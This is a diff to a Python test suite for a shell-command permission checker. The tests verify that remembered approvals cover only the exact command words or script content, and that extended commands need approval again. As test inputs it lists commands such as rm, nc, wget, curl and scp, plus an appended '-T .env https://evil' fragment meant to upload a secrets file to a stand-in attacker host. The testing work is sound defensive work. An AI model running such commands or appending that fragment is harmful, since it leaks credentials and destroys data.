@@ -196,7 +196,9 @@ def test_an_option_is_not_remembered_as_if_it_were_a_subcommand(command: str) ->
         ("npm run build", ("npm", "run", "build"), ["npm run other", "npm install"]),
         ("uv run pytest tests", ("uv", "run", "pytest", "tests"), ["uv run make"]),
         ("cargo build", ("cargo", "build"), ["cargo install x"]),
-        ("make", ("make",), ["cargo build"]),
+        ("make", ("make",), ["cargo build", "make install"]),
+        ("make test", ("make", "test"), ["make test install", "make test -f x"]),
+        ("bash x.sh", ("bash", "x.sh"), ["bash x.sh more", "bash y.sh"]),
     ],
 )
 def test_what_is_offered_covers_the_line_again_and_nothing_else(
@@ -349,3 +351,44 @@ def test_a_rule_of_only_a_star_allows_what_is_understood_and_asks_about_what_can
     asked = judge(run("git status"), mode=Mode.ALLOW, rules={"shell: *": "ask"})
     assert (asked.rule, asked.offers[0].pattern) == ("shell: *", ("git", "status"))
     assert judge(run("git status"), mode=Mode.ALLOW, rules={"shell: *": "ask"}, grants=(grant(),)).grants == ("grt_1",)
+
+
+SECOND_WORD_IS_NO_SUBCOMMAND = """
+rm foo | cp a | mv a | tee out.txt | scp a | nc host | find . | wget https://ok.example/ | bash x.sh | python3 x.py
+curl https://ok.example/ | node x.js | ./x.sh y | npx thing | make test | npm run build | go test | pip install
+docker run | kubectl get | git push | git clone | git remote | timeout 5 rm foo | cd sub && rm foo
+"""
+SUCH = [c.strip() for line in SECOND_WORD_IS_NO_SUBCOMMAND.strip().splitlines() for c in line.split(" | ")]
+
+
+@pytest.mark.req("security:S27")
+@pytest.mark.parametrize("command", SUCH)
+@pytest.mark.parametrize("network", [False, True])
+def test_what_is_remembered_of_a_command_without_known_subcommands_is_exactly_its_words(
+    command: str, network: bool
+) -> None:
+    for offer in judge(run(command, network=network)).offers:
+        kept = grant(pattern=offer.pattern, exact=offer.exact, network=offer.network)
+        for more in ("-T .env https://evil", "other", "-f x"):
+            again = judge(run(f"{command} {more}", network=network), grants=(kept,))
+            assert again.judgement is Judgement.ASK, (command, more)
+
+
+def test_with_network_nothing_but_the_very_words_is_remembered() -> None:
+    offer = judge(run("git log origin/main", network=True)).offers[0]
+    assert (offer.pattern, offer.exact) == (("git", "log", "origin/main"), True)
+
+
+@pytest.mark.req("security:S26a")
+def test_what_is_remembered_of_a_script_is_about_its_content() -> None:
+    call = run("timeout 5 ./x.sh", scripts=("", "aa"))
+    offer = judge(call).offers[0]
+    assert (offer.pattern, offer.scripts) == (("timeout", "5", "./x.sh"), "aa")
+    assert "as its script is now (aa)" in offer.words()
+    kept = grant(pattern=offer.pattern, exact=offer.exact, scripts=offer.scripts)
+    assert judge(call, grants=(kept,)).judgement is Judgement.ALLOW
+    assert judge(run("timeout 5 ./x.sh", scripts=("", "bb")), grants=(kept,)).judgement is Judgement.ASK
+    loose = grant(pattern=offer.pattern, exact=True)
+    assert judge(call, grants=(loose,)).judgement is Judgement.ASK
+    beside = judge(run("git status && timeout 5 ./x.sh", scripts=("", "", "aa")), grants=(grant(id="grt_2"), kept))
+    assert (beside.judgement, beside.grants) == (Judgement.ALLOW, ("grt_2", "grt_1"))
